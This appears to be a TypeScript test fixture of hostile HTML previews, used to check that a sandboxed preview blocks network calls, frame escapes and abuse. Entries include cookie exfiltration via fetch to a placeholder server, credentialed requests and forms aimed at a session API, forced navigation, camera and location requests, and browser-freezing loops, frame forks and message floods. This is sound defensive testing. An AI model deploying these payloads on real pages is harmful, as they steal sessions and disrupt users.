// Documents that a preview must survive. `URL_` stands for the listening server; `lost(what)` says that something was reached.
const script = (code: string): string =>
  `<script>const lost=(what)=>parent.postMessage({type:'error',what:'REACHED '+what},'*');try{${code}}catch(e){}</script>`;

const call =
  '<script>const c=new RTCPeerConnection({iceServers:[{urls:"stun:STUN_"}]});c.createDataChannel("x");c.createOffer().then((o)=>c.setLocalDescription(o))</script>';

export const hostilePreviews: Readonly<Record<string, string>> = {
  cookies: script('if(document.cookie)lost("cookie");fetch("URL_/?"+document.cookie)'),
  'the page above': script('lost(parent.document.title)'),
  'the top page': script('lost(top.location.href)'),
  'storage of the page': script('lost(parent.localStorage.length+"")'),
  'storage of its own origin': script(
    'const f=document.createElement("iframe");document.body.append(f);lost(f.contentWindow.localStorage.length+"")',
  ),
  databases: script('indexedDB.open("x").onsuccess=()=>lost("indexedDB")'),
  caches: script('caches.open("x").then(()=>lost("caches"))'),
  fetch: script('fetch("URL_/fetch").then(()=>lost("fetch"))'),
  'fetch without cors': script('fetch("URL_/nocors",{mode:"no-cors",method:"POST",body:"x"})'),
  'fetch of this server': script('fetch("/api/session",{credentials:"include"}).then((r)=>lost("api "+r.status))'),
  'an old request': script('const x=new XMLHttpRequest();x.open("GET","URL_/xhr");x.send()'),
  'a beacon': script('navigator.sendBeacon("URL_/beacon","x")'),
  'an event stream': script('new EventSource("URL_/events")'),
  'a socket': script('new WebSocket("URL_/socket".replace("http","ws"))'),
  'an image': '<img src="URL_/image.png">',
  'a made image': script('new Image().src="URL_/made.png"'),
  'an image set': '<picture><source srcset="URL_/set.png"><img srcset="URL_/set2.png 2x"></picture>',
  'a drawing with an image': '<svg><image href="URL_/svg.png"/><use href="URL_/use.svg#a"/></svg>',
  'a background': '<div style="background:url(URL_/background.png)">x</div>',
  'a style sheet': '<link rel="stylesheet" href="URL_/style.css"><style>@import "URL_/import.css";</style>',
  'a font': '<style>@font-face{font-family:x;src:url(URL_/font.woff2)}p{font-family:x}</style><p>x</p>',
  'a script of elsewhere': '<script src="URL_/script.js"></script>',
  'a module': '<script type="module">import "URL_/module.js"</script><link rel="modulepreload" href="URL_/pre.js">',
  'an import': script('import("URL_/dynamic.js")'),
  prefetch: '<link rel="prefetch" href="URL_/prefetch"><link rel="preload" as="image" href="URL_/preload">',
  'a prerendered page':
    '<link rel="prerender" href="URL_/prerender"><script type="speculationrules">{"prefetch":[{"source":"list","urls":["URL_/rules"]}]}</script>',
  'an icon and a manifest': '<link rel="icon" href="URL_/icon.png"><link rel="manifest" href="URL_/manifest.json">',
  'audio and video': '<video src="URL_/video" poster="URL_/poster"></video><audio src="URL_/audio"></audio>',
  'objects and embeds': '<object data="URL_/object"></object><embed src="URL_/embed">',
  'a frame in it': '<iframe src="URL_/frame"></iframe><iframe srcdoc="<img src=URL_/srcdoc>"></iframe>',
  'a form':
    '<form action="URL_/form" method="post"><input name="a" value="b"></form><script>document.forms[0].submit()</script>',
  'a form to this server':
    '<form action="/api/session" method="post" target="_top"></form><script>document.forms[0].submit()</script>',
  'going elsewhere': script('location.href="URL_/location"'),
  'going elsewhere by itself': '<meta http-equiv="refresh" content="0;url=URL_/refresh">',
  'taking the page along': script('top.location="URL_/top"'),
  'a link clicked for the reader':
    '<a href="URL_/ping" ping="URL_/ping2" target="_top">x</a><script>document.querySelector("a").click()</script>',
  'a new window': script('if(window.open("URL_/popup"))lost("popup")'),
  'a download': `<a download="x.exe" href="data:application/octet-stream,x">x</a>${script('document.querySelector("a").click();setTimeout(()=>document.querySelector("a").click(),100)')}`,
  'a dialog': script('alert("x");if(confirm("x"))lost("confirm");if(prompt("x"))lost("prompt");print()'),
  workers: script(
    'for(let i=0;i<50;i++)new Worker(URL.createObjectURL(new Blob(["fetch(\\"URL_/worker\\")"]))).onmessage=()=>lost("worker")',
  ),
  'a worker of the site': script('navigator.serviceWorker.register("/sw.js").then(()=>lost("service worker"))'),
  'a call between browsers': script(
    'const c=new RTCPeerConnection({iceServers:[{urls:"stun:STUN_"}]});c.createDataChannel("x");c.createOffer().then((o)=>c.setLocalDescription(o))',
  ),
  'a call from a frame in it': `<iframe srcdoc="${call.replaceAll('"', '&quot;')}"></iframe>`,
  'a call from a frame that is hidden': `<div><template shadowrootmode="closed"><iframe srcdoc="${call.replaceAll('"', '&quot;')}"></iframe></template></div>`,
  'a call from a copy': `<div></div><script>const a=document.querySelector("div");a.attachShadow({mode:"closed",clonable:true}).innerHTML='<iframe srcdoc="${call.replaceAll('"', '&quot;').replaceAll('</', '<\\/')}"></iframe>';document.body.append(a.cloneNode(true))</script>`,
  'a call with what an empty frame has': `<body>${script(
    'const f=document.createElement("iframe");document.body.append(f);if(f.contentWindow.RTCPeerConnection)lost("a call")',
  )}`,
  'a connection ahead': '<link rel="preconnect" href="URL_"><link rel="dns-prefetch" href="URL_">',
  'a connection ahead by code': script(
    'const l=document.createElement("link");l.rel="preconnect";l.href="URL_";document.head.append(l);document.body.innerHTML=l.outerHTML',
  ),
  'orders from a frame in it': `<iframe srcdoc="${script('top.postMessage({type:"error",what:"REACHED"},"*");parent.parent.postMessage({html:"x"},"*")').replaceAll('"', '&quot;')}"></iframe>`,
  'code from text': script('eval("lost(\\"eval\\")");new Function("lost(\\"Function\\")")()'),
  'a policy of its own': `<meta http-equiv="content-security-policy" content="default-src *">${script('fetch("URL_/meta")')}`,
  'a base of its own': '<base href="URL_/"><img src="base.png"><script src="base.js"></script>',
  'another document in its place': script(
    'document.open();document.write("<img src=URL_/rewritten>");document.close()',
  ),
  'camera and place': script(
    'navigator.geolocation.getCurrentPosition(()=>lost("place"));navigator.mediaDevices.getUserMedia({video:true}).then(()=>lost("camera"))',
  ),
  'orders to the page': script(
    'parent.postMessage({type:"tool-result",html:"<img src=URL_/order>"},"*");top.postMessage({html:"x"},"*")',
  ),
  'styles of every kind':
    '<style>b{cursor:url(URL_/cursor),auto;list-style:url(URL_/list);mask:url(URL_/mask);background:image-set("URL_/set" 1x);border-image:url(URL_/border) 1;filter:url(URL_/filter#a);shape-outside:url(URL_/shape);clip-path:url(URL_/clip#a)}b::before{content:url(URL_/content)}</style><b>x</b><svg><filter id="f"><feImage href="URL_/fe"/></filter><rect filter="url(#f)" width="9" height="9"/></svg>',
  'a style module': '<script type="module">import x from "URL_/module.css" with {type:"css"}</script>',
  'a fetch for later': script('fetchLater("URL_/later",{activateAfter:0})'),
  'an image that reports':
    '<img attributionsrc="URL_/attribution" src="data:,"><a attributionsrc="URL_/attribution">x</a>',
  'a shared worker': script(
    'new SharedWorker(URL.createObjectURL(new Blob(["fetch(\\"URL_/shared\\")"]))).port.start()',
  ),
  'a module worker': script(
    'new Worker("data:text/javascript,import(%22URL_/worker.js%22)",{type:"module"}).onmessage=()=>lost("worker")',
  ),
  'a channel to the page': script('new BroadcastChannel("tributary").postMessage("x")'),
  'the clipboard': script('navigator.clipboard.writeText("x").then(()=>lost("clipboard"))'),
  'the whole screen': script(
    'document.documentElement.requestFullscreen().then(()=>lost("screen"));document.documentElement.requestPointerLock()',
  ),
  'a library by a name of its own': script(
    'for(const name of ["__proto__","constructor","URL_/library.js"])if(window.previewLibrary&&previewLibrary(name))lost(name)',
  ),
  'a flood of messages': script(
    'const big="x".repeat(10000);for(let i=0;i<20000;i++)parent.postMessage({type:"error",what:big},"*")',
  ),
  'an endless loop': script('for(;;);'),
  'frames without end': script(
    'const fork=(doc)=>{for(let i=0;i<9;i++){const f=doc.createElement("iframe");doc.body.append(f);fork(f.contentDocument)}};document.addEventListener("DOMContentLoaded",()=>setInterval(()=>fork(document)))',
  ),
  'pages without end': script('setInterval(()=>{history.pushState(0,"",location.href);location.hash=Math.random()})'),
};

/** They keep a process busy: each is looked at alone. */
export const busy: ReadonlySet<string> = new Set([
  'a flood of messages',
  'an endless loop',
  'frames without end',
  'components without end',
]);
